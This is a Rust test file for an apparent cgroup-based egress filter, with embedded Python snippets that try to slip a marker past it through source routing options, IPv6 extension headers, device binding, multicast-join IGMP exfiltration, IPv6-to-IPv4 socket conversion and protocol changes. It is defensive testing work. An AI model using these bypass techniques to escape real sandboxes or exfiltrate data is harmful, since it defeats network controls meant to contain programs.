//! Options and ancillary data that route a packet past its destination, or that make the kernel send for the
//! program.

use super::attack_range::AttackRange;

/// Source routing via the other end: the hooks rewrite the destination, but the packet follows the route.
const SOURCE_ROUTE: &str = r"
route = bytes([131, 11, 4]) + socket.inet_aton(there4) + socket.inet_aton(there4) + b'\0'
";

#[test]
fn source_route_socket_option_is_blocked() {
    let range = AttackRange::new();
    for attempt in ["go(s, (there4, 443))", "sent(lambda: s.sendto(mark, (there4, 53)))"] {
        let kind = if attempt.contains("go") { "tcp()" } else { "udp()" };
        let attack = format!("{SOURCE_ROUTE}s = {kind}\nsent(lambda: s.setsockopt(0, 4, route))\n{attempt}");
        let walls: &[&str] = &["as_setsockopt", "as_egress"];
        let all = range.attack_without(&attack, &[]);
        assert!(all.is_empty(), "{all:#?}");
        for remaining in 0..2 {
            assert!(
                range.attack_without(&attack, &[walls[1 - remaining]]).is_empty(),
                "{} alone",
                walls[remaining]
            );
        }
        // The redirect stays in force: the route bypasses it.
        assert!(!range.attack_without(&attack, walls).is_empty(), "{attempt} does not bite");
    }
}

#[test]
fn source_route_ancillary_data_is_blocked() {
    let range = AttackRange::new();
    // IP_RETOPTS: no hook on options sees it.
    let attack = format!(
        "{SOURCE_ROUTE}sent(lambda: udp().sendmsg([mark], [(0, 7, route)], 0, (there4, 53)))
sent(lambda: udp().sendmsg([mark], [(0, 7, route)], 0, (there4, 9999)))"
    );
    range.assert_each_blocks(&attack, &["as_egress"]);
}

#[test]
fn ipv6_routing_and_extension_headers_are_blocked() {
    let range = AttackRange::new();
    // A segment routing header via the other end, and destination options; as options and as ancillary data.
    let attack = r"
six = socket.inet_pton(socket.AF_INET6, there6)
segments = struct.pack('=BBBBBBH', 0, 4, 4, 1, 1, 0, 0) + six + six
options = bytes([0, 0, 1, 4, 0, 0, 0, 0])
for kind, blob in ((57, segments), (59, options), (54, options), (55, options)):
    for host in ((there6, 53), (there6, 9999)):
        sent(lambda: udp(socket.AF_INET6).sendmsg([mark], [(41, kind, blob)], 0, host))
        s = udp(socket.AF_INET6)
        sent(lambda: s.setsockopt(41, kind, blob))
        sent(lambda: s.sendto(mark, host))";
    range.assert_together_block(attack, &["as_setsockopt", "as_sendmsg6", "as_egress"]);
    range.assert_together_block(attack, &["as_setsockopt", "as_egress"]);
}

/// The listeners' addresses on a device that leads away: the next host on the wire would read data meant for
/// the listener.
#[test]
fn listener_address_on_another_device_is_blocked() {
    let range = AttackRange::new();
    let attack = r"
import subprocess
for option, value in ((25, link.encode()), (62, struct.pack('i', index))):
    s = tcp()
    sent(lambda: s.setsockopt(socket.SOL_SOCKET, option, value))
    go(s, (there4, 443))
    u = udp()
    sent(lambda: u.setsockopt(socket.SOL_SOCKET, option, value))
    sent(lambda: u.sendto(mark, (there4, 53)))
for level, kind, value in ((0, 8, struct.pack('=i4s4s', index, b'', b'')), (0, 50, struct.pack('!I', index))):
    u = udp()
    sent(lambda: u.setsockopt(level, kind, value))
    sent(lambda: u.sendmsg([mark], [(level, kind, value)], 0, (there4, 53)))
six = udp(socket.AF_INET6)
sent(lambda: six.sendmsg([mark], [(41, 50, struct.pack('=16si', b'', index))], 0, (there6, 53)))
sent(lambda: six.sendto(mark, (there6, 53, 0, index)))";
    // A route through that device for sockets that bind to it.
    let there = range.netns.peer4().to_string();
    let (link, table) = (range.netns.link().to_owned(), "254");
    let ip = |words: &[&str]| {
        crate::support::process::run(crate::support::process::command("ip").args(words)).ok();
    };
    let metric = (range.netns.id() % 60_000 + 1000).to_string();
    ip(&["route", "add", "default", "via", &there, "dev", &link, "metric", &metric, "table", table]);
    let on = range.attack_without(attack, &[]);
    let off = range.attack_without(attack, &["as_egress"]);
    ip(&["route", "delete", "default", "via", &there, "dev", &link, "metric", &metric, "table", table]);
    assert!(on.is_empty(), "{on:#?}");
    assert!(off.iter().any(|packet| packet.destination.is_loopback()), "it does not bite: {off:#?}");
}

/// The kernel itself announces a joined group on the wire, from no socket's cgroup: 28 bits per call.
#[test]
fn multicast_join_exfiltration_is_blocked() {
    let range = AttackRange::new();
    let attack = r"
for at in range(0, 12, 3):
    group = bytes([239]) + mark[at:at + 3]
    s = udp()
    sent(lambda: s.setsockopt(0, 35, group + socket.inet_aton(here4)))
    sent(lambda: s.setsockopt(0, 35, struct.pack('=4s4si', group, b'', index)))
    sent(lambda: s.setsockopt(0, 39, group + socket.inet_aton(here4) + socket.inet_aton(there4)))
    storage = struct.pack('=H2x4s', 2, group).ljust(128, b'\0')
    source = struct.pack('=H2x4s', 2, socket.inet_aton(there4)).ljust(128, b'\0')
    sent(lambda: s.setsockopt(0, 42, struct.pack('=I4x', index) + storage))
    sent(lambda: s.setsockopt(0, 46, struct.pack('=I4x', index) + storage + source))
time.sleep(0.3)";
    range.assert_each_blocks(attack, &["as_setsockopt"]);
    let mut joined = range.attack_without(attack, &["as_setsockopt"]);
    joined.retain(|packet| packet.protocol == 2);
    assert!(!joined.is_empty(), "reports of IGMP");
}

#[test]
fn ipv6_socket_converted_to_ipv4_is_blocked() {
    let range = AttackRange::new();
    let attack = r"
s = go(tcp(socket.AF_INET6), ('::ffff:' + there4, 443), b'')
sent(lambda: s.setsockopt(41, 1, socket.AF_INET))
sent(lambda: s.send(mark))
libc.connect(s.fileno(), bytes(16), 16)
where = struct.pack('=HH4s8x', 2, socket.htons(443), socket.inet_aton(there4))
libc.connect(s.fileno(), where, 16)
sent(lambda: s.send(mark))";
    range.assert_together_block(attack, &["as_connect4", "as_connect6", "as_egress"]);
    let u = r"
s = udp(socket.AF_INET6)
sent(lambda: s.connect(('::ffff:' + there4, 53)))
sent(lambda: s.setsockopt(41, 1, socket.AF_INET))
where = struct.pack('=HH4s8x', 2, socket.htons(9999), socket.inet_aton(there4))
libc.sendto(s.fileno(), mark, len(mark), 0, where, 16)";
    range.assert_together_block(u, &["as_connect6", "as_sendmsg4", "as_sendmsg6", "as_egress"]);
}

#[test]
fn upper_layer_protocol_change_is_blocked() {
    let range = AttackRange::new();
    // Protocols that this kernel lacks fail with its own error; the attempt is blocked before.
    let attack = r"
for name in (b'tls', b'smc', b'mptcp', b'espintcp'):
    try:
        tcp().setsockopt(6, 31, name)
        print('done')
    except OSError as error: print(errno.errorcode[error.errno])";
    let fixture = super::attack_range::fixture_without(&[]);
    let output = range.run(&fixture.cgroup, attack, (1, 1));
    assert_eq!(output, "EPERM\n".repeat(4).trim_end());
    drop(fixture);
    let fixture = super::attack_range::fixture_without(&["as_setsockopt"]);
    assert!(!range.run(&fixture.cgroup, attack, (1, 1)).contains("EPERM"));
}
